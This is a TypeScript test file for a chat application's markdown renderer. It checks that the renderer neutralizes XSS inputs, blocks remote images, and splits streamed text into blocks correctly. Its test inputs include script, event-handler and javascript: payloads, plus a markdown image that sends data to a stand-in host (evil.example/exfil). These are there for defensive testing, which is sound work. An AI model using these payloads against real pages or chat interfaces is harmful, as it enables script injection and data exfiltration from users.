import { describe, expect, it } from "vitest";
import {
  allBlocks,
  type BlockSplit,
  emptySplit,
  loadRemoteImage,
  MAX_BLOCK_CHARS,
  renderMarkdown,
  segmentCode,
  splitBlocks,
} from "./markdown";

function dom(html: string) {
  const template = document.createElement("template");
  template.innerHTML = html;
  return template.content;
}

describe("renderMarkdown sanitization", () => {
  const attacks = [
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "![x](javascript:alert(1))",
    '<iframe src="https://example.com"></iframe>',
    '<svg onload="alert(1)"><circle/></svg>',
    "<style>body{display:none}</style>",
    '<div style="position:fixed" onclick="alert(1)">x</div>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  ];

  for (const attack of attacks) {
    it(`neutralizes ${attack}`, () => {
      const fragment = dom(renderMarkdown(attack));
      expect(fragment.querySelectorAll("script, iframe, style, svg, object, embed").length).toBe(0);
      for (const element of fragment.querySelectorAll("*")) {
        for (const attribute of element.attributes) {
          expect(attribute.name.startsWith("on"), attribute.name).toBe(false);
          expect(attribute.name).not.toBe("style");
          expect(attribute.value.replace(/\s/g, "").toLowerCase()).not.toMatch(/^(javascript|data:text\/html)/);
        }
      }
    });
  }

  it("shows raw HTML as text instead of dropping it silently", () => {
    const fragment = dom(renderMarkdown("Use <b>bold</b> like this"));
    expect(fragment.querySelector("b")).toBeNull();
    expect(fragment.textContent).toContain("<b>bold</b>");
  });

  it("renders GFM tables, strikethrough, task lists and safe links", () => {
    const html = renderMarkdown(
      "| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~ and [site](https://example.com)\n\n- [x] done",
    );
    const fragment = dom(html);
    expect(fragment.querySelectorAll("table td").length).toBe(2);
    expect(fragment.querySelector("del")?.textContent).toBe("old");
    const link = fragment.querySelector("a")!;
    expect(link.getAttribute("href")).toBe("https://example.com");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toContain("noopener");
  });
});

describe("images in replies", () => {
  it("never gives a remote image a src: a placeholder names it and its host", () => {
    for (const source of [
      "![chart](http://evil.example/exfil?data=secret)",
      "see ![x](https://cdn.example.com/a.png) inline",
      "[![badge](https://img.example/b.svg)](https://example.com)",
      '![x](//evil.example/p.png "protocol-relative")',
    ]) {
      const fragment = dom(renderMarkdown(source));
      for (const image of fragment.querySelectorAll("img")) expect(image.getAttribute("src"), source).toBeNull();
      expect(fragment.querySelector(".chat-image-placeholder"), source).not.toBeNull();
    }
    const placeholder = dom(renderMarkdown("![chart](http://evil.example/exfil?data=secret)")).querySelector(
      "[data-remote-image]",
    )!;
    expect(placeholder.getAttribute("data-remote-image")).toBe("http://evil.example/exfil?data=secret");
    expect(placeholder.getAttribute("role")).toBe("button");
    expect(placeholder.textContent).toBe("chartevil.example · load image");
  });

  it("shows data: images inline and loads a clicked one through the server's proxy", () => {
    const pixel = "data:image/png;base64,iVBORw0KGgo=";
    expect(
      dom(renderMarkdown(`![dot](${pixel})`))
        .querySelector("img")!
        .getAttribute("src"),
    ).toBe(pixel);
    const holder = document.createElement("div");
    holder.innerHTML = renderMarkdown("![chart](https://evil.example/c.png?q=1)");
    loadRemoteImage(holder.querySelector<HTMLElement>("[data-remote-image]")!);
    const image = holder.querySelector("img")!;
    expect(image.getAttribute("src")).toBe(
      `/api/remote-image?url=${encodeURIComponent("https://evil.example/c.png?q=1")}`,
    );
    expect(image.alt).toBe("chart");
  });
});

describe("splitBlocks", () => {
  const sample = [
    "# Title",
    "",
    "Intro paragraph",
    "that wraps.",
    "",
    "```ts",
    "const a = 1;",
    "",
    "const b = 2;",
    "```",
    "After the code.",
    "",
    "1. one",
    "",
    "   continued",
    "2. two",
    "",
    "| a | b |",
    "|---|---|",
    "| 1 | 2 |",
    "",
    "````md",
    "```inner```",
    "````",
    "",
    "last line",
  ].join("\n");

  it("splits at blank lines and around fences, keeping code blocks whole", () => {
    const blocks = allBlocks(splitBlocks(sample));
    expect(blocks.map((b) => (b.kind === "code" ? `code:${b.lang}` : b.source.trim().split("\n")[0]))).toEqual([
      "# Title",
      "Intro paragraph",
      "code:ts",
      "After the code.",
      "1. one",
      "| a | b |",
      "code:md",
      "last line",
    ]);
    const code = blocks[2]!;
    expect(code).toMatchObject({ kind: "code", code: "const a = 1;\n\nconst b = 2;", closed: true });
    expect(blocks[6]).toMatchObject({ kind: "code", code: "```inner```", closed: true });
  });

  it("keeps an unclosed fence as an open code block in the tail", () => {
    const split = splitBlocks("Intro\n\n```py\nprint(1)\n");
    expect(split.tail).toMatchObject({ kind: "code", lang: "py", code: "print(1)", closed: false });
  });

  it("gives the same blocks incrementally, at any chunking, as in one go", () => {
    const whole = allBlocks(splitBlocks(sample));
    for (const size of [1, 2, 3, 5, 8, 13, 40]) {
      let split: BlockSplit = emptySplit;
      for (let end = size; end < sample.length + size; end += size) {
        const next = splitBlocks(sample.slice(0, end), split);
        expect(next.done.slice(0, split.done.length)).toEqual(split.done);
        split = next;
      }
      expect(allBlocks(split), `chunk ${size}`).toEqual(whole);
    }
  });

  it("starts over when the text is replaced rather than extended", () => {
    const first = splitBlocks("alpha\n\nbeta\n\ngamma");
    const replaced = splitBlocks("other\n\ntext", first);
    expect(allBlocks(replaced).map((b) => b.source.trim())).toEqual(["other", "text"]);
  });

  it("concatenated blocks render like the whole text", () => {
    const whole = dom(renderMarkdown(sample)).textContent!.replace(/\s+/g, " ");
    const parts = allBlocks(splitBlocks(sample))
      .map((b) => dom(renderMarkdown(b.source)).textContent)
      .join(" ")
      .replace(/\s+/g, " ");
    expect(parts.trim()).toBe(whole.trim());
  });

  it("caps a block that never leaves a blank line, but never inside a table", () => {
    const line = "word ".repeat(19);
    const prose = `${line}\n`.repeat(Math.ceil((MAX_BLOCK_CHARS * 3) / 96));
    const table = `| a | b |\n|---|---|\n${"| 1 | 2 |\n".repeat(Math.ceil((MAX_BLOCK_CHARS * 2) / 10))}`;
    const blocks = allBlocks(splitBlocks(`${prose}\n${table}`));
    expect(blocks.length).toBeGreaterThan(3);
    for (const block of blocks.slice(0, -1)) expect(block.source.length).toBeLessThan(MAX_BLOCK_CHARS + 200);
    const tables = blocks.filter((b) => b.source.includes("|---|"));
    expect(tables).toHaveLength(1);
    expect(tables[0]!.source.endsWith(table)).toBe(true);
  });

  it("resumes the scan instead of starting over while text grows", () => {
    const text = `${"line of text\n".repeat(2000)}`;
    let split: BlockSplit = emptySplit;
    for (let end = 100; end <= text.length; end += 100) split = splitBlocks(text.slice(0, end), split);
    expect(split.scan).toBe(text.length);
    expect(
      allBlocks(split)
        .map((b) => b.source)
        .join(""),
    ).toBe(text);
  });
});

describe("segmentCode", () => {
  it("cuts code in whole-line segments and only extends the last while it grows", () => {
    const code = Array.from({ length: 250 }, (_, i) => `line ${i}`).join("\n");
    let segments = segmentCode(code.slice(0, 500));
    const first = segments.closed;
    segments = segmentCode(code, segments);
    expect(segments.closed).toHaveLength(2);
    expect(segments.closed.slice(0, first.length)).toEqual(first);
    expect(segments.closed.join("") + code.slice(segments.openStart)).toBe(code);
    expect(segments.closed[0]!.split("\n")).toHaveLength(101);
  });
});
